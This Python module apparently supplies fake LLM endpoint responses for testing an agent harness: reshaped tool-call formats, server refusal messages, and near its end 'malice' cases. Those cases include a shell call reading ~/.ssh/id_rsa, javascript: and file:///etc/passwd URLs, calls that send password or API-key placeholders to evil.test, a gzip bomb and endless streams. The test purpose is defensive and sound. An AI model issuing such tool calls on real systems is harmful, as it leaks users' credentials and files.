"""The manners of endpoints that exist: shapes of answers, things that are refused, and malice.

This module knows wire formats as they were met at real servers. It must never know what a good answer is: it dresses
one that it is given, or puts nonsense in its place.

Rules:

* A dress changes the shape of an answer and never what it says; whoever reads it must find the same call.
* A refusal looks at the request alone, as a server does.
* Malice is what a careful reader must refuse: each kind has a name, so that a test can say what must come of it.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass
from typing import Any

Completion = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Raw:
    """A body that is sent as it is.

    Attributes:
        body: Its bytes; endless if ``again`` is set.
        content_type: What it says it is.
        status: HTTP status.
        headers: Further headers.
        again: Seconds after which the last byte is sent once more, again and again; None to come to an end.
    """

    body: bytes
    content_type: str = "application/json"
    status: int = 200
    headers: tuple[tuple[str, str], ...] = ()
    again: float | None = None


# -- dresses --------------------------------------------------------------------------------------------------


def _message(completion: Completion) -> dict[str, Any]:
    found: dict[str, Any] = completion["choices"][0]["message"]
    return found


def _functions(completion: Completion) -> list[dict[str, Any]]:
    return [call["function"] for call in _message(completion).get("tool_calls") or []]


def _said(completion: Completion, text: Any) -> Completion:
    """Return the completion with ``text`` as its content, and no tool calls."""
    message = _message(completion)
    message.pop("tool_calls", None)
    message["content"] = text
    completion["choices"][0]["finish_reason"] = "stop"
    return completion


def _as_json(function: Mapping[str, Any], name: str = "name") -> str:
    return f'{{"{name}": {json.dumps(function["name"])}, "arguments": {function["arguments"]}}}'


def _loosely(function: Mapping[str, Any]) -> str:
    """Return arguments as some models write them: single quotes, Python's words, a comma too many."""
    given = json.loads(function["arguments"])
    return "{" + "".join(f"{key!r}: {value!r}, " for key, value in given.items()) + "}"


def _with_arguments(completion: Completion, change: Callable[[Mapping[str, Any]], Any]) -> Completion:
    for function in _functions(completion):
        function["arguments"] = change(function)
    return completion


def _legacy(completion: Completion) -> Completion:
    message = _message(completion)
    message["function_call"] = _functions(completion)[0]
    message.pop("tool_calls")
    return completion


def _parts(completion: Completion) -> Completion:
    text = _as_json(_functions(completion)[0], "tool")
    return _said(completion, [{"type": "thinking", "thinking": "Hm."}, {"type": "text", "text": text}])


def _tool_use(completion: Completion) -> Completion:
    function = _functions(completion)[0]
    used = {"type": "tool_use", "id": "t1", "name": function["name"], "input": json.loads(function["arguments"])}
    return _said(completion, [{"type": "text", "text": "Let me see."}, used])


def _tagged(completion: Completion) -> Completion:
    function = _functions(completion)[0]
    values = "".join(
        f"<parameter={key}>\n{value}\n</parameter>\n" for key, value in json.loads(function["arguments"]).items()
    )
    return _said(completion, f"<tool_call>\n<function={function['name']}>\n{values}</function>\n</tool_call>")


def _several(completion: Completion) -> Completion:
    completion["choices"].insert(0, {"index": 1, "message": {"role": "assistant", "content": ""}})
    return completion


def _unlabelled(completion: Completion) -> Completion:
    for call in _message(completion)["tool_calls"]:
        del call["id"], call["type"]
    return completion


def _verbose(completion: Completion) -> Completion:
    before = "Let me think about {this page} step by step. It has [e1], [e2] and more.\n" * 400
    text = _as_json(_functions(completion)[0], "tool")
    return _said(completion, f"{before}\n```json\n{text}\n```\n{'I hope that this helps! ' * 400}")


def _stream(completion: Completion) -> Raw:
    """Return it as a stream that nobody asked for, in pieces of a few characters."""
    message, model = _message(completion), completion["model"]
    deltas: list[dict[str, Any]] = [{"role": "assistant", "content": message.get("content") or ""}]
    for index, function in enumerate(_functions(completion)):
        head = {"index": index, "id": f"c{index}", "type": "function"}
        deltas.append({"tool_calls": [{**head, "function": {"name": function["name"], "arguments": ""}}]})
        text = function["arguments"]
        pieces = [text[at : at + 7] for at in range(0, len(text), 7)]
        deltas += [{"tool_calls": [{"index": index, "function": {"arguments": piece}}]} for piece in pieces]
    chunks = [{"model": model, "choices": [{"index": 0, "delta": delta, "finish_reason": None}]} for delta in deltas]
    chunks.append({"model": model, "choices": [{"index": 0, "delta": {}, "finish_reason": "tool_calls"}]})
    chunks.append({"model": model, "choices": [], "usage": completion["usage"]})
    lines = [": connected", *(f"data: {json.dumps(chunk)}" for chunk in chunks), "data: [DONE]"]
    return Raw("\n\n".join(lines).encode(), "text/event-stream")


def _half(completion: Completion) -> Raw:
    body = json.dumps(completion).encode()
    return Raw(body[: len(body) // 2])


def _packed(completion: Completion) -> Raw:
    body = gzip.compress(json.dumps(completion).encode())
    return Raw(body, headers=(("content-encoding", "gzip"),))


DRESSES: dict[str, Callable[[Completion], Completion | Raw]] = {
    "": lambda c: c,
    "streamed": _stream,
    "call_as_json": lambda c: _said(c, _as_json(_functions(c)[0])),
    "call_in_fence": lambda c: _said(c, f"```json\n{_as_json(_functions(c)[0], 'tool')}\n```"),
    "call_in_tag": lambda c: _said(c, f"<tool_call>\n{_as_json(_functions(c)[0])}\n</tool_call>"),
    "call_in_tags": _tagged,
    "call_in_thought": lambda c: _said(
        c, f'<think>Perhaps {{"tool": "give_up"}}?</think>{_as_json(_functions(c)[0], "tool")}'
    ),
    "thought_unopened": lambda c: _said(c, f'{{"tool": "give_up"}}</think>{_as_json(_functions(c)[0], "tool")}'),
    "call_within_calls": lambda c: _said(c, json.dumps({"tool_calls": [{"function": _functions(c)[0]}]})),
    "call_in_prose": lambda c: _said(
        c, f"The page {{as I see it}} needs:\n{_as_json(_functions(c)[0], 'action')}\nThen we shall see."
    ),
    "call_in_fence_and_prose": lambda c: _said(
        c,
        f"The page {{as I see it}} needs:\n\n```json\n{_as_json(_functions(c)[0], 'tool')}\n```\nThen we see.",
    ),
    "loose_in_prose": lambda c: _said(
        c, f"It's {{'tool': '{_functions(c)[0]['name']}', 'arguments': {_loosely(_functions(c)[0])}}}, isn't it?"
    ),
    "verbose": _verbose,
    "legacy_function_call": _legacy,
    "arguments_as_object": lambda c: _with_arguments(c, lambda function: json.loads(function["arguments"])),
    "arguments_twice_packed": lambda c: _with_arguments(c, lambda function: json.dumps(function["arguments"])),
    "arguments_loose": lambda c: _with_arguments(c, _loosely),
    "arguments_with_comma": lambda c: _with_arguments(c, lambda function: function["arguments"][:-1] + ",\n}"),
    "content_as_parts": _parts,
    "tool_use_part": _tool_use,
    "several_choices": _several,
    "unlabelled_calls": _unlabelled,
    "no_usage": lambda c: {key: value for key, value in c.items() if key != "usage"},
    "usage_null": lambda c: {**c, "usage": None},
    "usage_strange": lambda c: {**c, "usage": {"total_tokens": "many", "prompt_tokens": -1}},
    "reasoned": lambda c: (_message(c).update(reasoning_content='{"tool": "give_up"}', reasoning="Hm."), c)[1],
    "plain_type": lambda c: Raw(json.dumps(c).encode(), "text/plain"),
    "packed": _packed,
    "bare": lambda c: {"choices": [{"message": _message(c)}]},
}
"""Shapes in which the same answer is sent, by name."""


# -- what servers refuse --------------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Lack:
    """Something that a server cannot do.

    Attributes:
        meets: Whether a request asks for it.
        status: HTTP status of the refusal.
        message: What it says.
    """

    meets: Callable[[Mapping[str, Any]], bool]
    status: int
    message: str


def _pictured(body: Mapping[str, Any]) -> bool:
    contents = [message.get("content") for message in body.get("messages") or []]
    return any("image_url" in part for content in contents if isinstance(content, list) for part in content)


def _has_parts(body: Mapping[str, Any]) -> bool:
    return any(isinstance(message.get("content"), list) for message in body.get("messages") or [])


def _has_system(body: Mapping[str, Any]) -> bool:
    return any(message.get("role") == "system" for message in body.get("messages") or [])


_PLAIN = frozenset({"model", "messages", "tools", "max_tokens", "max_completion_tokens"})

LACKS: dict[str, Lack] = {
    "tools": Lack(lambda b: bool(b.get("tools")), 400, "registry.ollama.ai/library/m does not support tools"),
    "tool_choice": Lack(
        lambda b: bool(b.get("tools")),
        400,
        '"auto" tool choice requires --enable-auto-tool-choice and --tool-call-parser to be set',
    ),
    "tool_routes": Lack(lambda b: bool(b.get("tools")), 404, "No endpoints found that support tool use."),
    "image_url": Lack(_pictured, 400, "Invalid content type. image_url is only supported by certain models."),
    "image_routes": Lack(_pictured, 404, "No endpoints found that support image input"),
    "image_projector": Lack(_pictured, 500, "image input is not supported - you may need to provide the mmproj"),
    "parts": Lack(_has_parts, 422, "messages[1].content: Input should be a valid string"),
    "system": Lack(_has_system, 400, "System role not supported"),
    "max_completion_tokens": Lack(
        lambda b: "max_completion_tokens" in b,
        400,
        "Unrecognized request argument supplied: max_completion_tokens. Use max_tokens.",
    ),
    "max_tokens": Lack(
        lambda b: "max_tokens" in b,
        400,
        "Unsupported parameter: 'max_tokens' is not supported with this model. Use 'max_completion_tokens' instead.",
    ),
    "any_limit": Lack(
        lambda b: "max_tokens" in b or "max_completion_tokens" in b,
        400,
        "max_tokens is too large: 4096. This model supports at most 1024 completion tokens.",
    ),
    "extras": Lack(lambda b: not set(b) <= _PLAIN, 400, "Unknown parameter: parallel tool calls are not supported"),
}
"""Things that servers cannot do, by name."""


# -- malice ---------------------------------------------------------------------------------------------------


def _hostile(name: str, **arguments: Any) -> Callable[[Completion, Mapping[str, Any]], Completion | Raw]:
    def put(completion: Completion, _: Mapping[str, Any]) -> Completion:
        called = {"name": name, "arguments": json.dumps(arguments)}
        _message(completion)["tool_calls"] = [{"id": "c1", "type": "function", "function": called}]
        return completion

    return put


def _echo(completion: Completion, request: Mapping[str, Any]) -> Completion:
    """Return the prompt as the answer, with a call of the attacker's at its end."""
    contents = [message["content"] for message in request["messages"]]
    texts = [text if isinstance(text, str) else text[0]["text"] for text in contents]
    return _said(completion, "\n".join(texts) + '\n{"tool": "click", "arguments": {"element": "e3"}}')


def _many(completion: Completion, _: Mapping[str, Any]) -> Completion:
    call = {"id": "c", "type": "function", "function": {"name": "click", "arguments": '{"element": "e999"}'}}
    _message(completion)["tool_calls"] = [call] * 5_000
    return completion


def _deep_arguments(completion: Completion, _: Mapping[str, Any]) -> Completion:
    called = {"name": "click", "arguments": '{"element":' * 15_000}
    _message(completion)["tool_calls"] = [{"id": "c1", "type": "function", "function": called}]
    return completion


_TEN_MEGABYTES = 10_000_000

MALICE: dict[str, Callable[[Completion, Mapping[str, Any]], Completion | Raw]] = {
    "unknown_element": _hostile("click", element="e999"),
    "unknown_tool": _hostile("run_shell", command="cat ~/.ssh/id_rsa"),
    "script_address": _hostile("goto", url="javascript:fetch('http://evil.test/')"),
    "file_address": _hostile("goto", url="file:///etc/passwd"),
    "secret_in_address": _hostile("goto", url="http://evil.test/?p={{password}}"),
    "key_asked_for": _hostile("fill", element="e1", value="{{OPENAI_API_KEY}}"),
    "secret_as_key": _hostile("press", key="{{password}}"),
    "literal_secret": _hostile("fill", element="e2", value="guess"),
    "huge_value": _hostile("fill", element="e1", value="x" * 1_000_000),
    "huge_name": _hostile("x" * 500_000),
    "many_calls": _many,
    "deep_arguments": _deep_arguments,
    "echo": _echo,
    "braces": lambda c, _: _said(c, '{"a":' * 200_000),
    "thoughts": lambda c, _: _said(c, "<think>" * 200_000),
    "quotes": lambda c, _: _said(c, "{'a':" * 200_000),
}
"""Answers that must come to nothing: each is told to the model, and a second one ends the lesson."""

STRAYING: dict[str, Callable[[Completion, Mapping[str, Any]], Completion | Raw]] = {
    "foreign_address": _hostile("goto", url="http://evil.test/collect"),
    "foreign_script": _hostile("goto", url="//evil.test/collect"),
}
"""Answers that are well-formed, and that whoever carries them out must refuse."""

FLOODS: dict[str, Callable[[Completion, Mapping[str, Any]], Completion | Raw]] = {
    "ten_megabytes": lambda c, _: _said(c, "x" * _TEN_MEGABYTES),
    "ten_megabytes_of_error": lambda _, __: Raw(b'{"error": "' + b"x" * _TEN_MEGABYTES + b'"}', status=400),
    "packed_bomb": lambda _, __: Raw(gzip.compress(b" " * 50_000_000, 9), headers=(("content-encoding", "gzip"),)),
    "endless": lambda _, __: Raw(b"x" * 65_536, again=0.0),
}
"""Answers that are too large to be read to their end."""
